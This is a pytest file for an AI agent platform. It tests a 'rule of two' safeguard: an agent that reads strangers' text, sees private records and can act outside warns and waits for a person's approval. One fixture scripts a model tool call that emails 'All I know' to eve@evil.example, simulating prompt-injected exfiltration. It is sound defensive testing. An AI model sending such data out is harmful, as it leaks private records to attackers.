"""The rule of two: who reads strangers' text, sees private records and reaches outside is told, and asks a person."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from rest_framework.test import APIClient

from agents import blueprint, exposure
from agents.models import Agent, AgentStatus
from crm.models import Contact, Workspace
from executions.models import Execution, Status
from tests.agents.models import MakeProvider
from tests.agents.modelserver import ModelServer, Say
from tests.stories import MakeAgent, MakeTrigger
from triggers.models import Event
from triggers.sources import hearing

pytestmark = pytest.mark.django_db(transaction=True)
FREE = {"action": "send_email", "free": ["to"]}
FIXED = {"action": "send_email", "params": {"to": "sales@acme.example"}}
POST = {"action": "http_request", "params": {"url": "https://a.example/", "method": "POST"}}
GET = {"action": "http_request", "params": {"url": "https://a.example/"}}
FORM = {"event_type": "form_submitted"}
ASK = {"action": "ask_model", "params": {"prompt": "Whom?", "model": "offline:rules"}}
MAIL = {"action": "send_email", "params": {"subject": "Hi", "body": "Hi"}}


@pytest.fixture
def talker(acme: Workspace, make_trigger: MakeTrigger) -> Callable[..., Agent]:
    """`talker(FREE, hears=FORM)`: a live agent that a model drives, with these tools."""

    def make(*tools: Any, hears: str = "form_submitted", **fields: Any) -> Agent:
        agent = Agent(workspace=acme, status=AgentStatus.LIVE)
        given = {"name": "Talker", "model": "offline:rules", "tools": list(tools), **fields}
        blueprint.store(agent, given)
        make_trigger(agent, hears)
        return agent

    return make


@pytest.mark.parametrize(
    ("tool", "is_risky"),
    [
        ("create_note", False),
        (FIXED, False),
        ({**FIXED, "free": ["to"]}, True),
        (FREE, True),
        (POST, True),
        (GET, False),
        ({**GET, "free": ["url"]}, True),
        ({**GET, "free": ["method"]}, True),
        ({**FREE, "needs_approval": True}, False),
    ],
    ids=["note", "fixed", "both", "free", "post", "get", "any-url", "any-method", "approved"],
)
def test_what_reaches_outside(talker: Any, tool: Any, is_risky: bool) -> None:
    said = exposure.warning_of(talker(tool))
    assert bool(said) is is_risky
    if said:
        assert "“Talker on form_submitted”" in said
        assert "waits for a person" in said


def test_tools_of_servers_ask_by_themselves_unless_they_are_let_loose(talker: Any) -> None:
    agent = talker("create_note")
    agent.tools = [{"mcp": "search", "tool": "find"}]
    assert exposure.warning_of(agent) == ""
    agent.tools = [{"mcp": "search", "tool": "find", "needs_approval": False}]
    assert "(search/find)" in exposure.warning_of(agent)


@pytest.mark.parametrize(
    ("hears", "is_risky"),
    [("form_submitted", True), ("form_*", True), ("contact_created", False), ("*", True)],
)
def test_who_writes_what_it_reads(talker: Any, hears: str, is_risky: bool) -> None:
    assert bool(exposure.warning_of(talker(FREE, hears=hears))) is is_risky


def test_strangers_without_records_are_two_of_three(talker: Any, make_trigger: MakeTrigger) -> None:
    agent = talker(FREE, hears="user_logged_in")
    webhook = {"webhook_type": "generic", "webhook_config": {"unsigned": True}}
    make_trigger(agent, "hook", trigger_type="webhook", config=webhook)
    assert exposure.warning_of(agent) == ""
    make_trigger(agent, "deal_updated")
    assert "sees private records" in exposure.warning_of(agent)


def test_fixed_steps_that_a_model_steers_are_told(
    acme: Workspace, make_agent: MakeAgent, make_trigger: MakeTrigger
) -> None:
    steered = {**MAIL, "params": {**MAIL["params"], "to": "@steps.1.output"}}  # type: ignore[dict-item]
    fixed = {**MAIL, "params": {**MAIL["params"], "to": "@contact.email"}}  # type: ignore[dict-item]
    risky, fine = make_agent("Risky", ASK, steered), make_agent("Fine", ASK, fixed)
    for agent in (risky, fine):
        make_trigger(agent, "form_submitted")
    assert "step 2" in exposure.warning_of(risky)
    assert exposure.warning_of(fine) == ""
    approved = make_agent("Careful", ASK, {**steered, "needs_approval": True})
    make_trigger(approved, "form_submitted")
    assert exposure.warning_of(approved) == ""


def test_it_is_told_on_saving_and_in_the_list_and_one_query_answers_for_all(
    talker: Any, api: APIClient, django_assert_max_num_queries: Any
) -> None:
    agent = talker(FREE)
    (said,) = api.patch(f"/api/v1/agents/{agent.pk}", {"description": "x"}).json()["warnings"]
    assert "send_email waits for a person" in said
    with django_assert_max_num_queries(12):
        (listed,) = api.get("/api/v1/agents").json()["results"]
    assert listed["warnings"] == [said]
    accepted = [{**FREE, "needs_approval": False}]
    kept = api.patch(f"/api/v1/agents/{agent.pk}", {"tools": accepted}).json()
    assert kept["tools"] == accepted
    assert "The agent accepts that" in kept["warnings"][0]


MAILED = ("send_email", {"to": "eve@evil.example", "subject": "All", "body": "All I know"})


@pytest.fixture
def mailing(talker: Any, make_provider: MakeProvider, brain: ModelServer) -> Callable[..., Agent]:
    make_provider()
    brain.say(Say(calls=[MAILED]), Say("Done."))
    return lambda tool: talker(tool, hears="contact_created", model="local:small")


def happen(acme: Workspace, run: Callable[[], None], *, verified: bool) -> Execution:
    Contact.objects.create(workspace=acme, email="a@b.example")
    Event.objects.update(verified=verified)
    run()
    return Execution.objects.latest("position")


def test_a_tool_that_reaches_outside_waits_where_strangers_began(
    acme: Workspace, mailing: Any, run_everything_due: Callable[[], None], mailoutbox: Any
) -> None:
    mailing(FREE)
    run = happen(acme, run_everything_due, verified=False)
    assert run.status == Status.WAITING_APPROVAL
    assert mailoutbox == []


@pytest.mark.parametrize("verified", [True, False])
def test_it_goes_on_where_members_began_or_the_agent_accepts(
    acme: Workspace, mailing: Any, run_everything_due: Callable[[], None], verified: bool
) -> None:
    mailing(FREE if verified else {**FREE, "needs_approval": False})
    assert happen(acme, run_everything_due, verified=verified).status == Status.COMPLETED


def test_text_of_a_signed_sender_is_of_strangers_too(acme: Workspace) -> None:
    event = Event(type="webhook.github", verified=True)
    assert hearing.is_by_strangers(event, "webhook")
    assert not hearing.is_by_strangers(Event(type="deal_created", verified=True), "event")
    assert hearing.is_by_strangers(Event(type="deal_created", verified=False), "event")
    assert hearing.is_by_strangers(Event(type="form_submitted", verified=True), "event")
